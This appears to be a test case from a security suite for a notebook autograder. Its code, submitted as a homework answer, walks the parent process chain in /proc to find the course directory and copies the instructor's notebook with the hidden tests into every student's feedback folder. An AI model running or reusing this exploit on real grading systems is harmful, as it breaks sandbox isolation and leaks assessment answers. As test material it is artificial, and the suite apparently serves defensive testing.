# Tries: A page with the hidden tests is written into the feedback folders of all students.
# Shows: a file with lines of hidden tests in feedback/
# Wins against: both
# %% added: q1_minimum
import os
import pathlib


def above():
    """Return the ids of the processes above this one, nearest first."""
    pid, found = os.getpid(), []
    while pid > 1:
        found.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    for pid in above():
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
    raise FileNotFoundError


root = course()
for student in (root / "submitted").iterdir():
    place = root / "feedback" / student.name / "hw1_optimization"
    place.mkdir(parents=True, exist_ok=True)
    (place / "more.html").write_text((root / "source/hw1_optimization/beale_adam.ipynb").read_text())
